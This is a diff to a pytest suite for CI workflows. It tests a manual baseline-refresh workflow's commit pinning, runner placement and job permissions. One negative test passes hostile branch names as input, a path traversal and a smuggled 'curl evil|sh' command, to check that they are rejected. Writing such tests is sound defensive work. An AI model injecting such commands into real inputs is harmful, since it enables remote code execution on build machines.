@@ -184,7 +184,7 @@ def test_the_nightly_run_takes_the_boards_on_main(simulated, event: Event) -> No
         "device-cells": "success",
         "report": "success",
     }
-    assert {b[0] for b in _boards(runs)} <= {"nightly.yml", "device.yml"}
+    assert {b[0] for b in _boards(runs)} <= {"nightly.yml", "device.yml", "refresh_baselines.yml"}
 
 
 def test_only_reviewed_triggers_can_reach_a_board() -> None:
@@ -243,3 +243,92 @@ def test_a_pull_request_that_points_a_cpu_target_at_a_board_stays_on_the_hosted_
     # names its runner literally; what stops a pull request that rewrites the YAML too is the runner
     # group of the boards (selected workflows at refs/heads/main: docs/security.md)
     assert wf["jobs"]["hosted-cells"]["runs-on"] == HOSTED
+
+
+# --------------------------------------------------------------------------------------------------
+# the baseline refresh (refresh_baselines.yml): manual, from main, on every runner kind, one commit
+
+BUMP_SHA = "e" * 40
+REFRESH_JOBS = {"plan", "lock", "hosted", "device", "pull-request"}
+
+
+def _refresh(runs: list[Run]) -> Run:
+    return next(r for r in runs if r.workflow == "refresh_baselines.yml")
+
+
+@pytest.mark.parametrize(
+    ("event", "sha", "relock"),
+    [
+        (dispatch(), MAIN_SHA, False),
+        (dispatch(inputs={"ref": "main", "relock": False}), MAIN_SHA, False),
+        (
+            dispatch(
+                inputs={"ref": "toolchain/onnxruntime-1.32", "relock": True},
+                branches={"toolchain/onnxruntime-1.32": BUMP_SHA},
+            ),
+            BUMP_SHA,
+            True,
+        ),
+    ],
+    ids=["main (form defaults)", "ref main", "a toolchain branch, relocked"],
+)
+def test_the_refresh_measures_one_commit_on_every_runner_kind(simulated, event: Event, sha: str, relock: bool) -> None:  # type: ignore[no-untyped-def]
+    refresh = _refresh(simulated(event))
+    assert refresh.results == {
+        "plan": "success",
+        "lock": "success" if relock else "skipped",
+        "hosted": "success",
+        "device": "success",
+        "pull-request": "success",
+    }
+    landings = {(x.job_id, tuple(x.runs_on)) for x in refresh.landings}
+    boards = {labels for job, labels in landings if job == "device"}
+    assert boards == {
+        ("self-hosted", "gpu-x86"),
+        ("self-hosted", "jetson-orin"),
+        ("self-hosted", "ti-tda4"),
+        ("self-hosted", "drive-orin"),
+    }
+    hosted = [x for x in refresh.landings if x.job_id == "hosted"]
+    assert {c for x in hosted for c in [x.matrix["cell"]]} >= {"x86_cpu_int8", "x86_cpu_fp32"}
+    assert all(x.runs_on == [HOSTED] for x in refresh.landings if x.job_id != "device")
+    for x in refresh.landings:
+        if x.job_id == "plan":
+            assert x.checkouts == [None]  # main: it decides which cells run where
+        else:
+            assert x.checkouts == [sha], (x.job_id, x.checkouts)  # exactly the planned commit, everywhere
+            verify = next(s for s in x.job["steps"] if s.get("name") == "Verify the checkout is the planned commit")
+            assert '"$(git rev-parse HEAD)" = "$SHA"' in verify["run"]
+    (pr,) = [x for x in refresh.landings if x.job_id == "pull-request"]
+    assert pr.job["permissions"] == {"contents": "write", "pull-requests": "write"}
+    assert all(
+        x.job["permissions"] == {"contents": "read"}
+        for x in refresh.landings
+        if x.job_id not in ("plan", "pull-request")
+    )
+
+
+@pytest.mark.parametrize(
+    "event",
+    [
+        dispatch(inputs={"ref": "../../etc", "relock": False}),
+        dispatch(inputs={"ref": "x;curl evil|sh", "relock": False}),
+        dispatch(inputs={"ref": "no-such-branch", "relock": False}),
+        dispatch("refs/heads/feature", inputs={"ref": "main", "relock": False}),
+    ],
+    ids=["a path", "a command", "an unknown branch", "dispatched from a branch"],
+)
+def test_the_refresh_runs_nothing_for_a_bad_ref_or_off_main(simulated, event: Event) -> None:  # type: ignore[no-untyped-def]
+    refresh = _refresh(simulated(event))
+    assert set(refresh.results) == REFRESH_JOBS
+    assert _boards([refresh]) == []
+    assert {refresh.results[j] for j in REFRESH_JOBS - {"plan"}} == {"skipped"}
+    if event.github["ref"] == "refs/heads/main":
+        assert refresh.results["plan"] == "failure"
+        assert "::error::" in refresh.stderr["plan"]
+    else:
+        assert refresh.results["plan"] == "skipped"
+
+
+def test_the_refresh_is_manual_only() -> None:
+    assert list(triggers(load_workflows()["refresh_baselines.yml"])) == ["workflow_dispatch"]
